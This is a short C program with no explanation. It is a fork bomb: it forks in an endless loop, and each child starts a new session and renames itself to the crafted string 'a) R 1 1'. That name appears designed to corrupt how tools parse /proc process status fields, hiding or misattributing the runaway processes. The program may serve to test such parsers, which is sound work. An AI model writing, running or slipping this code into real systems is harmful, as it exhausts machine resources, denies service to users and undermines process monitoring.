#include <signal.h>
#include <sys/prctl.h>
#include <unistd.h>

int main(void) {
    signal(SIGCHLD, SIG_IGN);
    for (;;) {
        if (fork() == 0) {
            setsid();
            prctl(PR_SET_NAME, "a) R 1 1");
        }
    }
}
